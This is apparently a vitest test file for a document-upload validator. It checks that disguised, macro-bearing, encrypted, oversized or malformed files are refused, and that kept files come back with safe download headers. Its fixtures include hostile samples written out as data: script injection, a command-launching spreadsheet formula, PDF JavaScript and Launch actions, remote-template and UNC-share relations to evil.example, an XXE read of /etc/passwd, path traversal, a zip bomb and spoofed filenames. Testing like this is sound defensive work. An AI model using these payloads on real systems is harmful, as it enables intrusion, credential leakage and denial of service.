import type { ResultName } from '@osmp/contract/kit/result-codes.ts'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { meetingId } from '../demo/public.ts'
import { startTestApp, type TestApp, type TestCaller } from '../test-kit/test-kit.ts'
import { expectRefusal } from '../test-kit/test-state.ts'
import { pdf, type SentTestFile, uploadFiles } from './closing-test-kit.ts'
import {
  encryptedOffice,
  hugePng,
  noise,
  office,
  packedObjects,
  pdfOf,
  photo,
  relations,
  text,
  virusMark,
  withDirectory,
} from './hostile-test-kit.ts'

const TABLES = ['closing_file', 'stored_file', 'meeting_event']
const engagementId = meetingId('cv.toClose1')
const HTML = '<html><script>alert(1)</script></html>'
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
const MZ = Buffer.from('MZ\x90\x00 This program cannot be run in DOS mode', 'latin1')

let app: TestApp
let lin: TestCaller
let activityCode = ''
beforeAll(async () => {
  app = await startTestApp()
  lin = await app.as('lin')
  activityCode = (await lin.call('closing', 'detail', { engagementId })).data.activityCode
})
afterAll(() => app.close())

const send = (file: SentTestFile) => uploadFiles(app, lin, { engagementId, activityCode }, [file])
const bytes = (words: string) => Buffer.from(words, 'latin1')
type Made = Buffer | (() => Buffer | Promise<Buffer>)
const made = (content: Made) => (typeof content === 'function' ? content() : content)

describe('kinds that are not what they say: uploadKind, uploadKindMismatch', () => {
  it.each<[string, ResultName, string, Made]>([
    ['html as a picture', 'uploadKindMismatch', 'a.jpg', bytes(HTML)],
    ['svg as a picture', 'uploadKindMismatch', 'a.png', bytes(SVG)],
    ['svg', 'uploadKind', 'a.svg', bytes(SVG)],
    ['html', 'uploadKind', 'a.html', bytes(HTML)],
    ['a program', 'uploadKind', 'a.exe', MZ],
    ['a program as a picture', 'uploadKindMismatch', 'a.jpg', MZ],
    ['a program as a document', 'uploadKindMismatch', 'a.pdf', MZ],
    ['a picture, then a program’s ending', 'uploadKind', 'scan.jpg.exe', () => photo('jpeg')],
    ['a GIF that is a script too', 'uploadKind', 'a.gif', bytes('GIF89a=1;alert(1)')],
    ['the same as a picture of ours', 'uploadKindMismatch', 'a.png', bytes('GIF89a=1;alert(1)')],
    ['a spreadsheet of formulas as text', 'uploadKind', 'a.csv', bytes('=cmd|"/c calc"!A1')],
    ['a macro document by its own name', 'uploadKind', 'a.docm', office('docx')],
    ['a macro workbook by its own name', 'uploadKind', 'a.xlsm', office('xlsx')],
    ['a shortcut', 'uploadKind', 'a.lnk', bytes('L\0\0\0')],
    ['a zip', 'uploadKind', 'a.zip', office('docx')],
    ['a plain zip as a document', 'uploadKindMismatch', 'a.docx', bytes('PK\x03\x04 nothing of Word')],
    ['Word as Excel', 'uploadKindMismatch', 'a.xlsx', office('docx')],
    ['a PDF that does not begin as one', 'uploadKindMismatch', 'a.pdf', bytes(`${HTML}\n%PDF-1.7\n%%EOF`)],
    ['a PNG as a document', 'uploadKindMismatch', 'a.pdf', () => photo('png')],
    ['a PDF as a picture', 'uploadKindMismatch', 'a.jpg', pdf('x')],
    ['HEIC, which nobody here can draw anew', 'uploadKind', 'a.heic', bytes('\0\0\0\x18ftypheic\0\0\0\0')],
  ])('%s: %s', async (_name, refusal, name, content) => {
    const file = await made(content)
    await expectRefusal(app, TABLES, refusal, () => send({ name, content: file }))
  })
})

describe('documents that do more than show themselves: uploadMacro, uploadActiveContent and others', () => {
  const bomb = { 'word/media/a.xml': Buffer.alloc(60 * 1024 * 1024) }
  it.each<[string, ResultName, string, Made]>([
    ['macros under another ending', 'uploadMacro', 'a.docx', office('docx', { 'word/vbaProject.bin': text('x') })],
    ['old Excel macros', 'uploadMacro', 'a.xlsx', office('xlsx', { 'xl/macrosheets/sheet1.xml': text('<x/>') })],
    [
      'a macro type',
      'uploadMacro',
      'a.docx',
      office('docx', { '[Content_Types].xml': text('<Types macroEnabled="x"/>') }),
    ],
    ['a password on Word', 'uploadEncrypted', 'a.docx', encryptedOffice],
    [
      'a password on the zip',
      'uploadEncrypted',
      'a.xlsx',
      withDirectory(office('xlsx'), (entry) => entry.writeUInt16LE(1, 8)),
    ],
    ['a password on a PDF', 'uploadEncrypted', 'a.pdf', pdfOf('<< >>', '<< /Encrypt 5 0 R >>')],
    [
      'a script in a PDF',
      'uploadActiveContent',
      'a.pdf',
      pdfOf('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'),
    ],
    ['the same with its name disguised', 'uploadActiveContent', 'a.pdf', pdfOf('<< /S /J#61vaScript >>')],
    [
      'the same in a packed object',
      'uploadActiveContent',
      'a.pdf',
      pdfOf(packedObjects('1 0 << /S /JavaScript /JS (x) >>')),
    ],
    ['a program a PDF starts', 'uploadActiveContent', 'a.pdf', pdfOf('<< /S /Launch /F (calc.exe) >>')],
    ['a file inside a PDF', 'uploadActiveContent', 'a.pdf', pdfOf('<< /EmbeddedFiles 2 0 R >>')],
    ['a form of XFA', 'uploadActiveContent', 'a.pdf', pdfOf('<< /AcroForm << /XFA 3 0 R >> >>')],
    [
      'a packed PDF object of 40 MB',
      'uploadUnpacksTooLarge',
      'a.pdf',
      () => pdfOf(packedObjects(' '.repeat(40 * 1024 * 1024))),
    ],
    [
      'an OLE object in Word',
      'uploadActiveContent',
      'a.docx',
      office('docx', { 'word/embeddings/oleObject1.bin': text('x') }),
    ],
    [
      'an ActiveX control',
      'uploadActiveContent',
      'a.docx',
      office('docx', { 'word/activeX/activeX1.xml': text('<x/>') }),
    ],
    ['a program inside', 'uploadActiveContent', 'a.pptx', office('pptx', { 'ppt/media/run.exe': MZ })],
    [
      'a template from elsewhere',
      'uploadActiveContent',
      'a.docx',
      office('docx', { 'word/_rels/settings.xml.rels': relations('attachedTemplate', 'https://evil.example/t.dotm') }),
    ],
    [
      'a picture from a share, which gives a password away',
      'uploadActiveContent',
      'a.docx',
      office('docx', { 'word/_rels/document.xml.rels': relations('image', '\\\\evil.example\\a.png') }),
    ],
    ['a zip bomb', 'uploadUnpacksTooLarge', 'a.docx', () => office('docx', bomb)],
    [
      'parts that share bytes',
      'uploadUnpacksTooLarge',
      'a.docx',
      () => withDirectory(office('docx'), (entry) => entry.writeUInt32LE(900_000, 20)),
    ],
    [
      'five thousand and more parts',
      'uploadUnpacksTooLarge',
      'a.docx',
      () => office('docx', Object.fromEntries(Array.from({ length: 5_001 }, (_, at) => [`word/${at}`, text('')]))),
    ],
    ['a way out of the folder', 'uploadForeignContent', 'a.docx', office('docx', { '../../etc/passwd': text('x') })],
    ['a way from the root', 'uploadForeignContent', 'a.docx', office('docx', { '/etc/passwd': text('x') })],
    ['a Windows way out', 'uploadForeignContent', 'a.docx', office('docx', { '..\\run.txt': text('x') })],
    [
      'a link instead of a file',
      'uploadForeignContent',
      'a.docx',
      withDirectory(office('docx'), (entry) => entry.writeUInt32LE(0xa1ff_0000, 38)),
    ],
    [
      'an outer entity',
      'uploadForeignContent',
      'a.docx',
      office('docx', { 'word/document.xml': text('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>') }),
    ],
    [
      'a billion laughs in UTF-16',
      'uploadForeignContent',
      'a.xlsx',
      office('xlsx', { 'xl/workbook.xml': Buffer.from('\ufeff<!DOCTYPE l [<!ENTITY l "ha">]><l/>', 'utf16le') }),
    ],
    ['another file behind the zip', 'uploadForeignContent', 'a.docx', Buffer.concat([office('docx'), bytes(HTML)])],
    ['another file behind the PDF', 'uploadForeignContent', 'a.pdf', Buffer.concat([pdfOf('<< >>'), office('docx')])],
    ['a page inside the PDF', 'uploadForeignContent', 'a.pdf', pdfOf(`<< >> ${HTML}`)],
    ['the mark of a virus in a PDF', 'uploadMalware', 'a.pdf', () => pdf(virusMark())],
    [
      'the mark of a virus behind a picture',
      'uploadMalware',
      'a.jpg',
      async () => Buffer.concat([await photo('jpeg'), bytes(virusMark())]),
    ],
    ['four thousand million pixels', 'uploadTooManyPixels', 'a.png', hugePng(65_500, 65_500)],
    ['a picture cut off', 'fileDamaged', 'a.jpg', async () => (await noise()).subarray(0, 9_000)],
    ['a PDF cut off', 'fileDamaged', 'a.pdf', bytes('%PDF-1.7\n1 0 obj\n<<')],
    ['a zip cut off', 'fileDamaged', 'a.docx', office('docx').subarray(0, -30)],
  ])('%s: %s', async (_name, refusal, name, content) => {
    const file = await made(content)
    await expectRefusal(app, TABLES, refusal, () => send({ name, content: file }))
  })
})

describe('names', () => {
  let serial = 0
  it.each([
    ['../../../etc/passwd.pdf', 'passwd.pdf'],
    ['C:\\Windows\\win.pdf', 'win.pdf'],
    ['invoice\u200bfdp.pdf', 'invoicefdp.pdf'],
    ['CON.pdf', '_CON.pdf'],
    ['合同📄王医生.pdf', '合同📄王医生.pdf'],
    ['e\u0301tude.pdf', 'étude.pdf'],
    ['  spaces  .pdf', 'spaces.pdf'],
    ['=cmd.pdf', '=cmd.pdf'],
    ['a.pdf::$DATA', 'a.pdf__$DATA.pdf'],
  ])('%j is kept as %s', async (name, kept) => {
    serial += 1
    const { data, msg } = await send({ name: 'x.pdf', fileName: name, content: pdf(`name ${serial}`) })
    expect([msg, data[0]?.fileName]).toEqual(['', kept])
  })
  it.each<[name: string, refusal: ResultName]>([
    ['exe.\u202egpj', 'inputCharacters'],
    ['photo.jpg\u0000.html', 'inputCharacters'],
    ['photo.jpg.html', 'uploadKind'],
    ['photo.exe .', 'uploadKind'],
    ['   .pdf', 'fileNameNoExtension'],
    ['..', 'fileNameEmpty'],
  ])('%j is refused with %s', async (name, refusal) => {
    await expectRefusal(app, TABLES, refusal, () => send({ name, content: pdf('refused') }))
  })
})

describe('what is kept comes back as a file to save, and runs nowhere', () => {
  const fetched = async (file: SentTestFile) => {
    const { data, msg } = await send(file)
    expect(msg).toBe('')
    const { data: link } = await lin.call('closing', 'getFileUrl', { attachmentId: data[0]?.attachmentId ?? '' })
    return app.app.inject({ method: 'GET', url: link.url, headers: { token: lin.token ?? '' } })
  }

  it.each<[string, SentTestFile['name'], Made, string]>([
    ['a JPEG that is a page too', 'a.jpg', async () => Buffer.concat([await photo('jpeg'), bytes(HTML)]), 'image/jpeg'],
    ['a PNG with a page behind', 'a.png', async () => Buffer.concat([await photo('png'), bytes(HTML)]), 'image/png'],
    [
      'a WebP that is a zip too',
      'a.webp',
      async () => Buffer.concat([await photo('webp'), office('docx')]),
      'image/webp',
    ],
    [
      'a document with a link to press',
      'l.docx',
      office('docx', { 'word/_rels/d.xml.rels': relations('hyperlink', 'https://a.example') }),
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    ],
    ['a plain PDF', 'p.pdf', pdfOf('<< /Type /Catalog >>'), 'application/pdf'],
  ])('%s', async (_name, name, content, mediaType) => {
    const file = await fetched({ name, content: await made(content) })
    expect(file.headers).toMatchObject({
      'content-type': mediaType,
      'content-disposition': expect.stringMatching(/^attachment; filename\*=UTF-8''/),
      'content-security-policy': "default-src 'none'; sandbox",
      'x-content-type-options': 'nosniff',
      'cache-control': 'private, no-store',
    })
    if (mediaType.startsWith('image/')) expect(file.rawPayload.includes('<script>')).toBe(false)
  })

  it('a link is dead once the file was deleted', async () => {
    const { data } = await send({ name: 'gone.pdf', content: pdf('gone') })
    const attachmentId = data[0]?.attachmentId ?? ''
    const { data: link } = await lin.call('closing', 'getFileUrl', { attachmentId })
    await lin.call('closing', 'deleteClosingFile', { attachmentId })
    const late = await app.app.inject({ method: 'GET', url: link.url, headers: { token: lin.token ?? '' } })
    expect(late.json()).toMatchObject({ name: 'fileMissing' })
  })

  it('a link does not open for another person, without a session, or after five minutes', async () => {
    const { data } = await send({ name: 'mine.pdf', content: pdf('mine') })
    const { data: link } = await lin.call('closing', 'getFileUrl', { attachmentId: data[0]?.attachmentId ?? '' })
    const zhou = await app.as('zhou')
    const foreign = await app.app.inject({ method: 'GET', url: link.url, headers: { token: zhou.token ?? '' } })
    const missing = await app.app.inject({
      method: 'GET',
      url: `${link.url.slice(0, -1)}x`,
      headers: { token: zhou.token ?? '' },
    })
    expect(foreign.json().name).toBe('fileMissing')
    expect({ ...foreign.json(), requestId: '' }).toEqual({ ...missing.json(), requestId: '' })
    const nobody = await app.app.inject({ method: 'GET', url: link.url })
    expect(nobody.json()).toMatchObject({ name: 'notSignedIn', data: null })
  })
})
